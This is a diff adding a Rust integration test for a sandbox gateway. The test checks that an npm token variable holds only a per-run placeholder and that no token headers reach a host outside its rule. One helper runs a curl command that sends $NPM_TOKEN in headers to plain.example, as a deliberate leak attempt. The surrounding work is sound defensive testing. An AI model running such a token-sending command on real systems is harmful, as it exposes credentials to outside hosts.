@@ -10,7 +10,7 @@ use deckhand_world::{
 use serde_json::json;
 
 use crate::harness::{
-    Props, REQUEST, Stage,
+    PATIENCE, Props, REQUEST, Stage,
     asking::whispered,
     gateway::{ANSWER, Gateway, ask_until},
     scripts,
@@ -261,6 +261,65 @@ async fn the_plan_shows_the_policy_and_a_change_of_it_shows_the_plan_again() {
     let task = stage.wait_for_state(&thread, "awaiting_approval").await;
     assert_eq!(task.approval, None);
     stage.approve(&thread).await;
+    stage.close().await;
+}
+
+/// What a live sandbox holds in the variable, and what leaves with it for a host that is not its rule's.
+async fn held(stage: &Stage) -> String {
+    stage.models.until_waiting(1, PATIENCE).await.unwrap();
+    let sandbox = stage.sandboxes().await.remove(0);
+    let ask = "curl -sf -m 20 -H \"x-token: $NPM_TOKEN\" -u \"ana:$NPM_TOKEN\" http://plain.example/ >/dev/null; printenv NPM_TOKEN";
+    stage.inside(&sandbox, ask).await.trim().to_owned()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_variable_holds_a_placeholder_of_its_run_and_no_token() {
+    const TOKEN: &str = "tok-canary-of-a-registry-that-wants-a-variable-90";
+    let folder = tempfile::tempdir().unwrap();
+    let file = folder.path().join("policy.json");
+    let policy = json!({"version": 1, "repositories": {"acme/web": {"rules": [
+        {"hosts": ["npm.example"], "credential": "npm", "variable": "NPM_TOKEN"},
+        {"hosts": ["plain.example"], "ports": [80]},
+    ]}}});
+    std::fs::write(&file, policy.to_string()).unwrap();
+    let settings = vec![
+        ("DECKHAND_POLICY_FILE", file.display().to_string()),
+        ("DECKHAND_CREDENTIAL_NPM", format!("bearer:{TOKEN}")),
+    ];
+    let (stage, gateway) = stage_with("true", settings).await;
+    // A setup that insists on it, in the work tree and in the clean container.
+    let script = scripts::with_setup("test \"${NPM_TOKEN#tok-}\" != \"$NPM_TOKEN\"");
+    stage.models.otherwise(script);
+    stage.models.pause();
+    let thread = stage.mention(REQUEST).await;
+    let in_planning = held(&stage).await;
+    stage.models.resume();
+    stage.wait_for_state(&thread, "awaiting_approval").await;
+    thread
+        .wait_for_words("in whose place the sandbox holds NPM_TOKEN")
+        .await
+        .unwrap();
+    stage.models.pause();
+    thread.say("ana", "approve").await.unwrap();
+    stage.wait_for_state(&thread, "running").await;
+    let in_work = held(&stage).await;
+    stage.models.resume();
+    stage.wait_for_state(&thread, "in_review").await;
+    for held in [&in_planning, &in_work] {
+        assert!(held.starts_with("tok-"), "{held}");
+        assert_eq!(held.len(), TOKEN.len());
+        assert_ne!(held, TOKEN);
+    }
+    assert_ne!(in_planning, in_work, "each run has its own");
+    let heads = gateway.heads();
+    assert_eq!(heads.len(), 2, "{heads:?}");
+    for head in heads {
+        let head = head.to_ascii_lowercase();
+        assert!(
+            !head.contains("x-token") && !head.contains("authorization"),
+            "{head}"
+        );
+    }
     stage.close().await;
 }
 
